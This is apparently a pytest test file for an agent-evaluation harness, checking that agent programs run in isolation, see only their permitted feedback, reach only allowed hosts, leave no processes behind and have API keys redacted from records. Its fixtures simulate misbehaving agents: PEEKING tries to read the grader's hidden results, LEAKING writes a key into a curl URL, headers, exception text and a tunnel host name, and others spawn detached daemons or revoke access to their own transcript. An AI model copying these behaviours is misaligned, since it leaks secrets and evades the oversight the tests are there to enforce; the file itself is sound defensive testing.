"""`--agent command`: programs of the user, with their files, keys and hosts."""

from __future__ import annotations

import hashlib
import json
import os
import signal
import subprocess
import sys
import tempfile
import time
import venv
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

import pytest
from run_helpers import SMALL, record_of, run_agent, run_argv, run_command, run_to_record

from server_helpers import AS_USER, COMMAND, TOY, with_task

SECRET = "a-key-that-is-never-recorded"


def test_files_and_variables_of_a_program(tmp_path):
    """It finds what lies beside it and what it is shown; a variable comes by name, and its value is in no record."""
    mine, data, run = tmp_path / "mine", tmp_path / "data", tmp_path / "run"
    for folder in (mine, data):
        folder.mkdir()
    (data / "hint.txt").write_text("hint")
    (data / "gymnasium").mkdir()
    (data / "gymnasium" / "__init__.py").touch()
    (mine / "helper.py").write_text("import os, subprocess, sys\n"
                                    "print(open(sys.argv[1]).read(), os.environ['MY_KEY'], 'OTHER' in os.environ)\n"
                                    "subprocess.run([sys.executable, 'submit.py', '0-3'], check=True)\n")  # fmt: skip
    program = mine / "agent.sh"
    program.write_text(f'#!/bin/sh\nexec python3 "$(dirname "$0")/helper.py" {data}/hint.txt\n')
    program.chmod(0o755)
    record = run_to_record(
        run, "--agent", "command", "--agent-env", "MY_KEY", "--show", str(data), "--", str(program),
        MY_KEY=SECRET, OTHER="x",
    )  # fmt: skip
    started = json.loads((run / "logs/agent/turn_001.prompt.json").read_text())
    assert started["argv"] == [str(program)] and "AGENTS.md there has the task" in started["stdin"]
    assert record["budget"]["charged"] == 4 and record["outcome"]["kind"] == "scored"
    assert (run / "logs/agent/turn_001.out").read_text().endswith("hint [MY_KEY] False\n")
    assert record["agent"]["settings"]["variables"] == ["MY_KEY"]
    assert record["agent"]["settings"]["shown"] == [str(data)]
    residues = record["isolation"]["agent_residues"]
    assert "off-budget simulation: among what is shown to it there is gymnasium" in residues
    assert record["agent"]["settings"]["command"] == ["agent.sh"] and record["agent"]["settings"]["sha256"]
    assert not subprocess.run(["grep", "-rl", SECRET, str(run)], capture_output=True, text=True).stdout


PEEKING = """
import json, os, pathlib, subprocess, sys
open("system/policy.py", "a").write("\\n# mine\\n")
subprocess.run([sys.executable, "submit.py", "0-3"], check=True)
shown = sorted(str(path) for path in pathlib.Path("feedback").rglob("*") if path.is_file())
judge = pathlib.Path.cwd().parent / "feedback" / "submit_001" / "summary.json"
try:
    judge.read_bytes()
    peeked = True
except OSError:
    peeked = False
print("SEEN", json.dumps([shown, peeked]))
"""


def test_an_agent_sees_no_more_than_its_feedback_level(tmp_path):
    """In its sandbox, where the feedback is a mount of its own."""
    (tmp_path / "agent.py").write_text(PEEKING)
    run = tmp_path / "run"
    command = ("--agent", "command", "--feedback", "score", "--", "python3", str(tmp_path / "agent.py"))
    record = run_to_record(run, *command)
    assert record["outcome"]["kind"] == "scored"
    (line,) = [text for text in (run / "logs/agent/turn_001.out").read_text().splitlines() if text.startswith("SEEN")]
    shown, peeked = json.loads(line.removeprefix("SEEN "))
    assert shown == ["feedback/submit_001/errors.txt", "feedback/submit_001/summary.json"] and not peeked
    assert (run / "feedback/submit_001/episodes/ep_000/episode.npz").exists()


LEAKING = """
import http.client, json, os, urllib.parse
key = os.environ["MY_KEY"]
half = len(key) // 2
open("system/policy.py", "w").write(f'''
class Policy:
    def __init__(self, obs_space, action_space, env_meta): pass
    def reset(self, episode_index): print("my key:", {key[:half]!r} + {key[half:]!r})
    def act(self, obs): raise ValueError({key[:half]!r} + {key[half:]!r})
''')
open("notes.txt", "w").write(f"curl https://example.org/?key={key}\\npip install {'x' * 80}{key}\\n")
api = urllib.parse.urlsplit(os.environ["EVOPOLICYGYM_SUBMIT_URL"])
for _ in range(2):
    connection = http.client.HTTPConnection(api.netloc)
    connection.request("POST", api.path, json.dumps({"env_instances": [0]}), {"Idempotency-Key": f"mine-{key}"})
    print(connection.getresponse().status)
proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
tunnel = http.client.HTTPConnection(proxy.netloc)
tunnel.set_tunnel(f"{key.upper()}.invalid", 443)
try:
    tunnel.connect()
except OSError as error:
    print(error)
"""


def test_api_keys_are_removed_from_the_record(tmp_path):
    """A key can occur as an Idempotency-Key, as the text of an exception, as a host name or as a sign in the
    workspace."""
    (tmp_path / "agent.py").write_text(LEAKING)
    run, page = tmp_path / "run", tmp_path / "page.html"
    words = ("--agent", "command", "--agent-env", "MY_KEY", "--", "python3", str(tmp_path / "agent.py"))
    record = run_to_record(run, *words, MY_KEY=SECRET)
    assert record["budget"]["charged"] == 1, "the same key is the same submission"
    signs = {sign["kind"]: sign["example"] for sign in record["integrity"]["signs"]}
    assert signs["download"] == "curl https://example.org/?key=[MY_KEY]"
    assert signs["install"] == f"pip install {'x' * 80}[MY_KEY]", "cut in the middle of the key"
    assert '"mine-[MY_KEY]"' in (run / "ledger.jsonl").read_text()
    assert '"[MY_KEY].invalid"' in (run / "logs/agent/turn_001.net").read_text()
    episode = run / "feedback/submit_001/episodes/ep_000"
    assert (episode / "stdout.txt").read_text() == "my key: [MY_KEY]\n"
    assert "ValueError: [MY_KEY]" in (episode / "error.txt").read_text()
    assert run_command([*COMMAND, "report", str(run), "--output", str(page)]).returncode == 0
    matches = subprocess.run(["grep", "-rliF", SECRET, str(run), str(page)], capture_output=True, text=True).stdout
    assert matches.split() == [str(run / "workspace/notes.txt")], "its own file, which nobody alters"
    assert run_command([*COMMAND, "verify", str(run), "--task", "toys:Toy-v0"]).returncode == 0


def test_a_script_is_named_after_its_interpreter(tmp_path, monkeypatch):
    """From the folder that the runs are in: the script is shown, and nothing beside it."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "other-run").mkdir()
    look = f"print(os.path.exists({str(tmp_path / 'other-run')!r}))"
    submit = "subprocess.run([sys.executable, 'submit.py', '0-3'], check=True)"
    (tmp_path / "agent.py").write_text(f"import os, subprocess, sys; {submit}; {look}")
    words = ["run", "toys:Toy-v0", "--run", "run", "--json", *SMALL, "--agent", "command", "--agent-isolation", "A"]
    done = run_command([*COMMAND, *words, "--", "python3", "agent.py"])
    record = record_of(done)
    assert f"{tmp_path}/agent.py but not the files beside it" in done.stderr
    assert record["budget"]["charged"] == 4
    assert (tmp_path / "run/logs/agent/turn_001.out").read_text().endswith("False\n")


def test_a_program_of_a_virtual_environment_keeps_its_packages(tmp_path, monkeypatch):
    """Interpreter and script are named by relative paths; of the Python behind it only the standard library is seen."""
    mine = tmp_path / "mine"
    mine.mkdir()
    venv.create(mine / "venv", symlinks=True, with_pip=False)
    (packages,) = (mine / "venv").glob("lib/python3*/site-packages")
    (packages / "my_library.py").write_text("GAIN = 7")
    (mine / "agent.py").write_text("import subprocess, sys, my_library\n"
                                   "subprocess.run([sys.executable, 'submit.py', '0-3'], check=True)\n"
                                   "print(my_library.GAIN, sys.prefix)")  # fmt: skip
    monkeypatch.chdir(mine)
    words = ["run", "toys:Toy-v0", "--run", str(tmp_path / "run"), "--json", *SMALL, "--agent", "command"]
    record = record_of(run_command([*COMMAND, *words, "--", "venv/bin/python", "-u", "agent.py"]))
    assert record["budget"]["charged"] == 4 and record["outcome"]["kind"] == "scored"
    assert (tmp_path / "run/logs/agent/turn_001.out").read_text().endswith(f"7 {mine}/venv\n")
    settings = record["agent"]["settings"]
    assert settings["sha256"] == hashlib.sha256((mine / "agent.py").read_bytes()).hexdigest()
    assert settings["command"] == ["python", "-u", "agent.py"]


def test_a_run_beside_the_current_folder(tmp_path, monkeypatch):
    """The agent's cell has no folder that `..` could lead through; links on the way to the run are followed."""
    (tmp_path / "here").mkdir()
    (tmp_path / "link").symlink_to(tmp_path)
    monkeypatch.chdir(tmp_path / "here")
    script = 'echo "$EVOPOLICYGYM_WORKSPACE"; test -d "$EVOPOLICYGYM_SYSTEM" && echo there'
    words = ["run", "toys:Toy-v0", "--run", "../link/run", "--json", *SMALL, "--agent", "command", "--max-turns", "1"]
    record_of(run_command([*COMMAND, *words, "--", "sh", "-c", script]))
    printed = (tmp_path / "run/logs/agent/turn_001.out").read_text()
    assert printed == f"{tmp_path.resolve()}/run/workspace\nthere\n"


def test_hosts_of_ones_own(tmp_path):
    look = "import urllib.request as u\nfor h in ('allowed.invalid', 'refused.invalid'):\n" \
        "    try: u.urlopen('https://' + h)\n    except OSError as e: print(h, e)"  # fmt: skip
    record = run_to_record(
        tmp_path / "run", "--agent", "command", "--agent-host", "allowed.invalid", "--", "python3", "-c", look
    )
    allowed, refused = (tmp_path / "run/logs/agent/turn_001.out").read_text().splitlines()[:2]
    assert "502" in allowed and "403" in refused
    assert record["agent"]["settings"]["hosts"] == ["allowed.invalid"]
    rows = [json.loads(line) for line in (tmp_path / "run/logs/agent/turn_001.net").read_text().splitlines()]
    assert [(row["host"], row["allowed"], bool(row["problem"])) for row in rows] == [
        ("allowed.invalid", True, True),
        ("refused.invalid", False, False),
    ]
    failing = (
        "--agent",
        "command",
        "--",
        "python3",
        "-c",
        "import urllib.request as u; u.urlopen('https://no.invalid')",
    )
    done = run_agent(tmp_path / "failing", *failing)
    assert done.returncode == 5 and "proxy refused no.invalid:443; --agent-host no.invalid:443 allows it" in done.stderr


def test_a_program_that_fails_is_started_again(tmp_path):
    """Until it ends well."""
    script = "test -e tried || { touch tried; echo broken >&2; exit 3; }; python3 submit.py 0-3"
    record = run_to_record(tmp_path / "once", "--agent", "command", "--", "bash", "-c", script)
    assert [turn["failure"] for turn in record["turns"]] == ["client", None]
    assert record["budget"]["charged"] == 4 and record["times"]["closed_because"] == "agent_stopped"


def test_a_program_that_never_works_has_no_score(tmp_path):
    """A mistyped script, say: its run is suspended. Ended by hand, it is missing from the leaderboard."""
    root = tmp_path / "run"
    done = run_agent(root, "--agent", "command", "--", "bash", "-c", "echo 401 is no such case >&2; exit 3")
    record = json.loads(done.stdout)
    assert done.returncode == 5 and [turn["failure"] for turn in record["turns"]] == ["client"] * 3
    assert record["status"] == "open" and record["suspended"]["reason"] == "agent_never_worked"
    assert "401 is no such case" in done.stderr and f"evopolicygym run --resume {root}" in done.stderr
    shown = run_command([*COMMAND, "leaderboard", str(root)])
    assert "suspended (agent_never_worked)" in shown.stdout + shown.stderr and shown.returncode == 1
    ended = record_of(run_command([*COMMAND, *with_task("finish", root, "--json")]))
    assert ended["outcome"]["kind"] == "agent_never_worked" and ended["suspended"] is None
    shown = run_command([*COMMAND, "leaderboard", str(root)])
    assert "the agent never worked (finished_by_hand); to be run again" in shown.stdout + shown.stderr
    assert run_command([*COMMAND, *with_task("verify", root)]).returncode == 0


OUTAGE = """
import pathlib, subprocess, sys
if not pathlib.Path("online").exists():
    subprocess.run([sys.executable, "submit.py", "0-3"], check=True)
    sys.exit(75)  # no route to its model
subprocess.run([sys.executable, "submit.py", "4-11"], check=True)
"""


def test_a_suspended_run_continues_where_it_was(tmp_path):
    (tmp_path / "agent.py").write_text(OUTAGE)
    root, command = tmp_path / "run", ("--agent", "command", "--max-retries", "0")
    done = run_agent(root, *command, "--", "python3", str(tmp_path / "agent.py"))
    record = json.loads(done.stdout)
    assert done.returncode == 5 and "4 of 12 training episodes are used" in done.stderr
    assert record["suspended"]["reason"] == "provider_down" and record["outcome"] is None
    (root / "workspace" / "online").touch()
    record = record_of(run_command([*COMMAND, "run", TOY, "--resume", str(root), "--json"]))
    assert record["suspended"] is None and record["outcome"]["kind"] == "scored"
    assert [turn["failure"] for turn in record["turns"]] == ["provider", None] and record["budget"]["charged"] == 12
    assert run_command([*COMMAND, *with_task("verify", root)]).returncode == 0


SPOILER = """
title = "Spoils its HOME"
program = "bash"
argv = ["${{program}}", "-c", 'test -e tried || python3 submit.py 0-3; touch tried; cd ~; {}']
version = []
[files]
".spoiler/settings" = "mine"
"""


@pytest.mark.parametrize(
    "spoil", ["rm -r .spoiler; ln -s /tmp .spoiler", "rm .spoiler/settings; mkdir .spoiler/settings.unfinished"]
)
def test_an_agent_that_spoils_its_home_is_scored(spoil, tmp_path):
    """It has failed, and nobody else: a run that ended as the user's mistake would have no score."""
    (tmp_path / "spoiler.toml").write_text(SPOILER.format(spoil))
    record = run_to_record(tmp_path / "run", "--agent", str(tmp_path / "spoiler.toml"))
    assert [turn["failure"] for turn in record["turns"]] == [None, "client", "client", "client"]
    assert "HOME" in record["turns"][-1]["message"]
    assert record["times"]["closed_because"] == "agent_failed" and record["outcome"]["kind"] == "scored"


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to become somebody else")
@pytest.mark.parametrize("level", ["A", "B"])
def test_an_agent_that_forbids_its_transcript_is_scored(level):
    """Run by an ordinary user, it is this user, and its output a file that it owns."""
    forbid = "python3 submit.py 0-3; python3 -c 'import os; os.fchmod(1, 0); os.fchmod(2, 0)'; echo done"
    with tempfile.TemporaryDirectory() as folder:
        os.chmod(folder, 0o777)
        options = ("--agent", "command", "--agent-isolation", level, "--", "bash", "-c", forbid)
        command = [sys.executable, str(AS_USER), *run_argv(Path(folder) / "run", *options)]
        record = record_of(run_command(command, HOME=folder))
        printed = (Path(folder) / "run/logs/agent/turn_001.out").read_text()
    assert record["turns"][0]["failure"] is None and printed.endswith("done\n")
    assert record["outcome"]["kind"] == "scored"


STOPPED = [("A", signal.SIGINT), ("B", signal.SIGKILL), ("none", signal.SIGKILL)]
STOPPED_TOO = [("A", signal.SIGKILL), ("B", signal.SIGINT), ("none", signal.SIGINT)]


@pytest.mark.parametrize(
    ("level", "number"), [*STOPPED, *(pytest.param(*case, marks=pytest.mark.slow) for case in STOPPED_TOO)]
)
def test_a_stopped_run_leaves_no_process(level, number, tmp_path):
    """The agent is a tree with a daemon in a session of its own; its run is stopped or killed, and what it submitted is
    scored."""
    name = f"{os.getpid()}{int(number)}.{level}"
    tree = f"""
        python3 submit.py 0-3
        setsid -f bash -c 'exec -a sleeper-{name} sleep 500'
        exec -a waiter-{name} sleep 500
    """
    options = ("--agent", "command", "--agent-isolation", level, "--", "bash", "-c", tree)
    process = subprocess.Popen(run_argv(tmp_path / "run", *options), stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    until(lambda: len(running(name)) >= 2)
    process.send_signal(number)
    process.wait(30)
    until(lambda: not running(name))
    done = run_command([*COMMAND, *with_task("finish", tmp_path / "run", "--json")])
    assert record_of(done)["outcome"]["kind"] == "scored"


def running(name: str) -> list[str]:
    matches = []
    for path in Path("/proc").glob("[0-9]*/cmdline"):
        with suppress(OSError):
            first = path.read_bytes().partition(b"\0")[0].decode(errors="replace")
            matches += [first] if first in (f"sleeper-{name}", f"waiter-{name}") else []
    return matches


def until(holds: Callable[[], bool]) -> None:
    deadline = time.monotonic() + 60
    while not holds():
        assert time.monotonic() < deadline
        time.sleep(0.05)
